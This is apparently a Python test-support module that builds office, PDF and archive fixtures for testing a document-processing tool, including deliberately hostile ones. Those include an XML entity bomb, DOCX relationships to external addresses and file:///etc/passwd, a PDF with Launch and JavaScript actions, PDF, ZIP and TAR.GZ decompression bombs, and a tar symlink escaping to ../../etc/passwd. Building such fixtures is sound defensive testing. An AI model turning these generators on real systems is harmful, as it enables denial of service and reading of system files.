"""Documents and archives for tests, made byte by byte or by the tools that make them; some mean harm."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from pathlib import Path

from tests.support.footage import make_pdf, run

_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CONTENT = "http://schemas.openxmlformats.org/package/2006/content-types"


def compound(*names: str) -> bytes:
    """Return the skeleton of a compound file (the old office formats) with these streams."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(30, b"\0") + struct.pack("<H", 9)
    head = head.ljust(48, b"\0") + struct.pack("<I", 0)
    entries = b""
    for name in ("Root Entry", *names):
        encoded = name.encode("utf-16-le") + b"\0\0"
        entries += encoded.ljust(64, b"\0") + struct.pack("<H", len(encoded)) + bytes(62)
    return head.ljust(512, b"\0") + entries.ljust(1024, b"\0")


# ---- office -------------------------------------------------------------------------------------------------------


def docx(path: Path, paragraphs: Sequence[str], *, extra: Mapping[str, str] | None = None, relations: str = "") -> Path:
    """Make a DOCX with these paragraphs; `extra` adds parts, `relations` relationships of the document."""
    body = "".join(
        f'<w:p><w:r><w:rPr><w:lang w:eastAsia="zh-CN"/></w:rPr><w:t>{text}</w:t></w:r></w:p>' for text in paragraphs
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{_OFFICE}"><w:body>{body}</w:body></w:document>'
    )
    return _office(path, "word/document.xml", "wordprocessingml.document", document, extra=extra, relations=relations)


def xlsx(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    """Make an XLSX of one sheet with these cells."""
    cells = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in row) + "</row>" for row in rows
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>'
    book = (
        f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{_OFFICE}">'
        '<sheets><sheet name="1" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    relation = f'<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    return _office(
        path,
        "xl/workbook.xml",
        "spreadsheetml.sheet",
        book,
        extra={"xl/worksheets/sheet1.xml": sheet},
        relations=relation,
        part_types={"/xl/worksheets/sheet1.xml": "spreadsheetml.worksheet"},
    )


def rtf(path: Path, text: str) -> Path:
    """Make an RTF; characters beyond ASCII are written as their numbers."""
    told = "".join(char if char.isascii() else f"\\u{ord(char)}?" for char in text)
    path.write_text("{\\rtf1\\ansi " + told + "\\par}", encoding="ascii")
    return path


def docx_with_harm(path: Path, address: str) -> Path:
    """Make a DOCX that wants a picture and a template from elsewhere, and brings an entity bomb and a macro along."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">{entities}]><x>&e9;</x>'
    relations = "".join(
        f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in (
            ("r1", "attachedTemplate", f"{address}/t.dotm"),
            ("r2", "image", f"{address}/i.png"),
            ("r3", "image", "file:///etc/passwd"),
        )
    )
    return docx(
        path,
        ["Readable all the same"],
        extra={"customXml/item1.xml": bomb, "word/vbaProject.bin": "not a project"},
        relations=relations,
    )


def _office(
    path: Path,
    main: str,
    main_type: str,
    document: str,
    *,
    extra: Mapping[str, str] | None,
    relations: str,
    part_types: Mapping[str, str] | None = None,
) -> Path:
    prefix = "application/vnd.openxmlformats-officedocument."
    overrides = "".join(
        f'<Override PartName="{name}" ContentType="{prefix}{kind}+xml"/>'
        for name, kind in {f"/{main}": f"{main_type}.main", **(part_types or {})}.items()
    )
    kinds = (
        f'<?xml version="1.0"?><Types xmlns="{_CONTENT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
    )
    first = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="{main}"/>'
    folder, _, name = main.rpartition("/")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", kinds)
        made.writestr("_rels/.rels", _relationships(first))
        made.writestr(main, document)
        made.writestr(f"{folder}/_rels/{name}.rels", _relationships(relations))
        for part, content in (extra or {}).items():
            made.writestr(part, content)
    return path


def _relationships(told: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{_RELATIONS}">{told}</Relationships>'


# ---- PDF ----------------------------------------------------------------------------------------------------------


def pdf(path: Path, pages: Sequence[Sequence[str]]) -> Path:
    """Make a PDF with these pages of lines (Latin text)."""
    if len(pages) == 1:
        return make_pdf(path, pages[0])
    singles = [make_pdf(path.with_suffix(f".{number}.pdf"), lines) for number, lines in enumerate(pages)]
    run("pdfunite", *singles, path)
    for single in singles:
        single.unlink()
    return path


def pdf_of(
    path: Path,
    contents: Sequence[bytes],
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: Mapping[int, bytes] | None = None,
    trailer: bytes = b"",
) -> Path:
    """Write a PDF whose pages hold these raw drawings; more may be added to its parts, and objects from 50 on."""
    first = 10
    kids = b" ".join(b"%d 0 R" % (first + 2 * number) for number in range(len(contents)))
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Count %d /Kids [" % len(contents) + kids + b"] >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(objects or {}),
    }
    for number, drawing in enumerate(contents):
        at = first + 2 * number
        bodies[at] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R " % (at + 1) + page + b" >>"
        )
        packed = zlib.compress(drawing, 9)
        bodies[at + 1] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream"
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in sorted(bodies.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    out += b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in sorted(places.items()))
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (max(places) + 1) + trailer + b">>\n"
    path.write_bytes(bytes(out) + b"startxref\n%d\n%%%%EOF\n" % table)
    return path


def line(text: str) -> bytes:
    """Return the drawing of one line of text."""
    return b"BT /F1 24 Tf 72 700 Td (" + text.encode("latin-1") + b") Tj ET"


def pdf_with_harm(path: Path, address: str) -> Path:
    """Make a PDF that wants to run a script and a program and to open an address, at once."""
    launch = b"<< /S /Launch /F (/usr/bin/touch) /Win << /F (calc.exe) >> /Next << /S /URI /URI (%s) >> >>"
    script = b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\);) >>" % address.encode()
    return pdf_of(
        path,
        [line("Readable all the same")],
        catalog=b"/OpenAction 50 0 R /AA << /WC 51 0 R >> /Names << /JavaScript << /Names [(x) 51 0 R] >> >>",
        objects={50: launch % address.encode(), 51: script},
    )


def pdf_that_never_ends(path: Path, *, page: int = 2, pages: int = 3) -> Path:
    """Make a PDF one page of which draws itself through forms that use each other ten times each."""
    depth = 12
    forms = {}
    for level in range(depth):
        inner = b"/X Do " * 10 if level + 1 < depth else b"0 0 1 1 re f "
        resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (50 + level + 1) if level + 1 < depth else b""
        forms[50 + level] = (
            (
                b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 900] "
                + resources
                + b" /Length %d >>\nstream\n" % len(inner)
            )
            + inner
            + b"\nendstream"
        )
    drawings = [line(f"Page {number}") for number in range(1, pages + 1)]
    drawings[page - 1] = b"/X0 Do"
    made = pdf_of(path, drawings, objects=forms).read_bytes()
    wanted = b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R" % (11 + 2 * (page - 1))
    with_form = wanted.replace(b"/Font", b"/XObject << /X0 50 0 R >> /Font")
    assert made.count(wanted) == 1
    path.write_bytes(made.replace(wanted, with_form))  # its places are off now, and readers find the objects again
    return path


def pdf_bomb(path: Path, *, megabytes: int = 300) -> Path:
    """Make a PDF whose one drawing unpacks to hundreds of megabytes of blanks."""
    return pdf_of(path, [b" " * (megabytes * 1024 * 1024)])


def pdf_of_a_giant_page(path: Path) -> Path:
    """Make a PDF whose page is kilometres wide."""
    return pdf_of(path, [line("Far")], page=b"/MediaBox [0 0 200000000 100000000]")


def encrypted_pdf(path: Path) -> Path:
    """Make a PDF that opens with a password only: its keys belong to a password that nobody has."""
    nonsense = b"<%s>" % (b"ab" * 32)
    encrypt = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O " + nonsense + b" /U " + nonsense + b" >>"
    identity = b"<%s>" % (b"01" * 16)
    return pdf_of(
        path,
        [line("Secret")],
        objects={50: encrypt},
        trailer=b"/Encrypt 50 0 R /ID [" + identity + identity + b"] ",
    )


# ---- archives -----------------------------------------------------------------------------------------------------


def zip_file(path: Path, entries: Mapping[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Make a ZIP; times are those of 2026-03-02 09:30."""
    with zipfile.ZipFile(path, "w", compression) as made:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, (2026, 3, 2, 9, 30, 0))
            info.compress_type = compression
            made.writestr(info, content)
    return path


def parts_of(path: Path) -> dict[str, bytes]:
    """Return the entries of a ZIP."""
    with zipfile.ZipFile(path) as made:
        return {name: made.read(name) for name in made.namelist()}


def gbk_zip(path: Path, name: str) -> Path:
    """Make a ZIP as Windows in China does: names in GBK, and no mark that says so."""
    stand_in = "x" * len(name.encode("gbk"))
    made = zip_file(path, {stand_in: b"content"}).read_bytes()
    path.write_bytes(made.replace(stand_in.encode(), name.encode("gbk")))
    return path


def encrypted_zip(path: Path) -> Path:
    """Make a ZIP whose entry says that it needs a password."""
    made = bytearray(zip_file(path, {"secret.txt": b"x" * 40}).read_bytes())
    made[6] |= 1
    made[made.rindex(b"PK\1\2") + 8] |= 1
    path.write_bytes(made)
    return path


def zip_bomb(path: Path, *, layers: int = 3, megabytes: int = 50) -> Path:
    """Make a ZIP in a ZIP in a ZIP, sixteen of the inner one each; the innermost holds blanks."""
    content = b" " * (megabytes * 1024 * 1024)
    for layer in range(layers):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
            for number in range(1 if layer == 0 else 16):
                made.writestr(f"{layer}-{number}.zip", content)
        content = inner.getvalue()
    path.write_bytes(content)
    return path


def tar_gz_bomb(path: Path, *, megabytes: int = 400) -> Path:
    """Make a TAR.GZ of one file of blanks that packs a thousandfold."""
    with gzip.open(path, "wb", compresslevel=1) as packed:
        info = tarfile.TarInfo("blanks")
        info.size = megabytes * 1024 * 1024
        packed.write(info.tobuf())
        for _ in range(megabytes):
            packed.write(bytes(1024 * 1024))
        packed.write(bytes(1024))
    return path


def packed(path: Path, name: str, content: bytes) -> Path:
    """Make a GZIP of one file that names it. Its name is UTF-8, as tools on Linux write it."""
    raw = gzip.compress(content, mtime=1_772_415_000)
    path.write_bytes(raw[:3] + bytes([raw[3] | 0x08]) + raw[4:10] + name.encode() + b"\0" + raw[10:])
    return path


def tar_file(path: Path, names: Sequence[str], *, mode: str = "w:gz") -> Path:
    """Make a TAR, packed as `mode` says, with an empty file under each name, a folder and a link that leads out."""
    with tarfile.open(path, mode) as made:  # type: ignore[call-overload]
        for name in names:
            info = tarfile.TarInfo(name)
            info.mtime = 1_772_415_000  # 2026-03-02 01:30 UTC
            made.addfile(info)
        folder = tarfile.TarInfo("folder")
        folder.type = tarfile.DIRTYPE
        made.addfile(folder)
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "../../etc/passwd"
        made.addfile(link)
    return path
